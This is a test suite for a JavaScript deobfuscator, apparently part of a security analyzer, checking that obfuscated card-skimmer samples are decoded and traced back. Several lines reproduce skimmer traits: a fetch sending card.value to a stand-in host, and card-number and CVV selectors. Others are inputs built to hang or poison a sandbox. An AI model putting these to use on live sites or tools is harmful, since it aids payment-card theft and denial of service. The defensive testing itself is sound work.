import assert from 'node:assert/strict';
import { originalPlace } from '../../../analyzer/deobfuscate/index.ts';
import { open } from './open-text.ts';
import { obfuscate, pack, settings, skimmer, writeInSymbols } from './samples.ts';

const address = 'https://stats.invalid/collect';

describe('deobfuscate: layers', () => {
  for (const [name, options] of Object.entries(settings)) {
    it(`opens ${name}`, async () => {
      const opened = await open(obfuscate(skimmer, options));
      assert.equal(opened.outcome, 'opened');
      for (const text of [address, '#cc-number', '#cc-cvv'])
        assert.ok(opened.text!.includes(text), opened.text!);
      assert.ok(opened.decoded > 0);
    });
  }

  it('opens a list too short to give hidden names away', async () => {
    const opened = await open(
      obfuscate("track('order placed', 'guest'); show('thank you', 12);", {
        ...settings['a list in base64'],
        identifierNamesGenerator: 'mangled',
      }),
    );
    assert.match(opened.text!, /^track\("order placed", "guest"\);\s+show\("thank you", 12\);?\s*$/);
  });

  it('opens a list that takes long to rotate', async () => {
    const words = Array.from({ length: 400 }, (_, index) => `'word ${index * index}'`);
    const opened = await open(
      obfuscate(`track([${words.join()}]);`, settings['a list in RC4, shuffled and rotated']!),
    );
    assert.deepEqual(
      opened.layers.map(({ kind }) => kind),
      ['webcrack'],
    );
    assert.ok(opened.text!.includes('"word 159201"'));
  });

  it('opens one generation after the other', async () => {
    const rc4 = settings['a list in RC4, shuffled and rotated']!;
    const opened = await open(
      obfuscate(obfuscate(skimmer, { ...rc4, selfDefending: true }), { ...rc4, seed: 8 }),
    );
    for (const text of [address, '#cc-number', '#cc-cvv'])
      assert.ok(opened.text!.includes(text), opened.text!);
    assert.doesNotMatch(opened.text!, /fromCharCode|parseInt/);
  });

  it('undoes flattening without any list', async () => {
    const flat = { controlFlowFlattening: true, controlFlowFlatteningThreshold: 1, stringArray: false };
    const opened = await open(obfuscate(skimmer, flat));
    assert.ok(opened.text!.includes(`fetch("${address}?d=" + encodeURIComponent(`), opened.text!);
    assert.doesNotMatch(opened.text!, /\bswitch\b|mptyList/);
  });

  it('undoes flattening of flattened code', async () => {
    const flat = { ...settings['flattened control flow and dead code'], deadCodeInjection: false };
    const once = obfuscate(skimmer, flat);
    const opened = await open(obfuscate(once, { ...flat, seed: 8 }));
    assert.ok(opened.text!.includes(`fetch("${address}?d=" + encodeURIComponent(`), opened.text!);
  });

  it('opens a long list in a long script', async () => {
    const words = Array.from({ length: 2_500 }, (_, index) => `track('word ${index * index}', ${index});`);
    const text = obfuscate(words.join('\n'), {
      ...settings['a list in base64'],
      unicodeEscapeSequence: true,
    });
    assert.ok(text.length > 200_000);
    const opened = await open(text);
    assert.ok(opened.text!.includes('track("word 6245001", 2499)'));
  });

  it('opens the list for code in a text, too', async () => {
    const text = obfuscate("run(eval('var sender = track; [sender(\\'order placed\\')].length'));", {
      stringArray: true,
      stringArrayThreshold: 1,
    });
    assert.match(text, /eval\(['"]/);
    const opened = await open(text);
    assert.match(opened.text!, /"order placed"\)\]/);
    assert.doesNotMatch(opened.text!, /eval/);
  });

  it('opens a packer', async () => {
    const opened = await open(pack("fetch('https://stats.invalid/' + card.value)"));
    assert.ok(opened.text!.includes('https://stats.invalid/'));
    assert.deepEqual(
      opened.layers.map(({ kind }) => kind),
      ['code'],
    );
  });

  it('opens a script written in symbols', async () => {
    const opened = await open(writeInSymbols('track(cardholder)'));
    assert.match(opened.text!, /^track\(cardholder\)[\s;]*$/);
    assert.equal(opened.layers[0]?.kind, 'symbols');
  });

  it('opens symbols beside other code', async () => {
    const opened = await open(`var a = 1;\n${writeInSymbols('track(cardholder)')};\nb(a);`);
    assert.match(opened.text!, /var a = 1;\s+track\(cardholder\)[\s;]+b\(a\);/);
  });

  it('opens layer under layer', async () => {
    let text = obfuscate(skimmer, settings['a list in base64']!);
    for (let layer = 0; layer < 3; layer++) text = `eval(atob(${JSON.stringify(btoa(text))}));`;
    const opened = await open(text);
    assert.ok(opened.text!.includes(address));
    assert.ok(opened.layers.length >= 4);
  });

  it('stops at a depth', async () => {
    let text = 'track(order)';
    for (let layer = 0; layer < 30; layer++)
      text = `eval(unescape(${JSON.stringify(encodeURIComponent(text))}));`;
    const opened = await open(text.slice(0, 1_400_000));
    assert.ok(opened.layers.length <= 12);
  });

  it('leaves plain code as it is', async () => {
    const opened = await open(skimmer);
    assert.equal(opened.outcome, 'unchanged');
    assert.equal(opened.text, null);
  });

  it('says when nothing could be opened', async () => {
    const { outcome, text } = await open('var _0x1 = [, _0x2 = _0x3 (((');
    assert.deepEqual([outcome, text], ['failed', null]);
  });

  it('does not try what is too large', async () => {
    assert.equal((await open(`a("${'x'.repeat(1_500_000)}")`)).outcome, 'too-large');
  });

  it('gives the same result every time', async () => {
    const text = obfuscate(skimmer, settings['a list in RC4, shuffled and rotated']!);
    const [one, other] = [await open(text), await open(text)];
    assert.deepEqual({ ...one, ms: 0 }, { ...other, ms: 0 });
  });
});

describe('deobfuscate: places of what was opened', () => {
  it('lead names that survive to where they stand', async () => {
    for (const options of Object.values(settings)) {
      const text = obfuscate(skimmer, options);
      const opened = await open(text);
      const place = originalPlace(opened, opened.text!.indexOf('fetch('));
      assert.equal(text.slice(place.offset, place.offset + 5), 'fetch');
      assert.ok(place.exact);
    }
  });

  it('lead a decoded text to the call of its decoder', async () => {
    const text = obfuscate(skimmer, settings['a list of texts']!);
    const opened = await open(text);
    const place = originalPlace(opened, opened.text!.indexOf('"#cc-number"'));
    assert.match(text.slice(place.offset), /^_0x[\da-f]+\(0x[\da-f]+\)/);
    assert.equal(place.exact, false);
  });

  it('lead through layers to the outermost call', async () => {
    const inner = obfuscate(skimmer, settings['a list in base64']!);
    const text = `before();\neval(atob(${JSON.stringify(btoa(inner))}));\nafter(1);`;
    const opened = await open(text);
    const place = originalPlace(opened, opened.text!.indexOf(address));
    assert.deepEqual(place, { offset: text.indexOf('eval'), exact: false });
    const later = originalPlace(opened, opened.text!.indexOf('after'));
    assert.deepEqual(later, { offset: text.indexOf('after'), exact: true });
  });

  it('of a script that was not opened are its own', () => {
    assert.deepEqual(originalPlace({ places: null }, 12), { offset: 12, exact: true });
  });
});

describe('deobfuscate: scripts that fight back', () => {
  for (const [name, text] of [
    ['an endless decoder', 'function d(s) { for (;;); } eval(d("a")); f(d("b"), atob("aa"));'],
    ['a decoder that eats memory', 'function d(s) { for (;;) s += s; } eval(atob(d("a")));'],
    ['a regular expression that never ends', 'eval(unescape("a".repeat(40) + "b").replace(/^(a+)+$/, ""));'],
    ['a huge list', 'var a = new Array(1e9); a.fill("x"); eval(unescape(a.join("")));'],
    ['eval that evaluates itself', 'var s = "eval(unescape(s))"; eval(unescape(s));'],
    [
      'a decoder that changes the sandbox',
      'function d(s) { Array.prototype.push = function () { throw 1 }; Object.prototype.length = 9; return s } eval(atob(d("YQ==")));',
    ],
    ['a poisoned prototype', 'Object.prototype.__proto__ = null; eval(unescape("%7B%7D") + {}.__proto__);'],
    ['deep nesting', `eval(atob(${'('.repeat(2_000)}"YQ=="${')'.repeat(2_000)}));`],
  ] as const)
    it(`ends with ${name}`, async () => {
      const opened = await open(text);
      assert.ok(['opened', 'unchanged', 'failed'].includes(opened.outcome), opened.outcome);
    });
});
